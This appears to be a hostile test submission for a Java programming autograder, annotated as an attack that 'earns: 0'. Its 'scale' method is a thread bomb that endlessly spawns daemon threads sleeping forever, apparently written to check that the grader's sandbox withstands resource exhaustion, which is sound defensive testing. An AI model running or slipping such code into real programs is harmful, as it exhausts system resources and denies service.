// attack: starts threads that never end
// assignment: 00-start-here
// question: scale
// earns: 0
// reason: more threads than the
double[] scale(int[] pixels) {
    while (true) {
        Thread thread = new Thread(null, () -> {
            while (true) {
                try {
                    Thread.sleep(100_000);
                } catch (Throwable thrown) {
                }
            }
        }, "bomb", 1 << 16);
        thread.setDaemon(true);
        thread.start();
    }
}
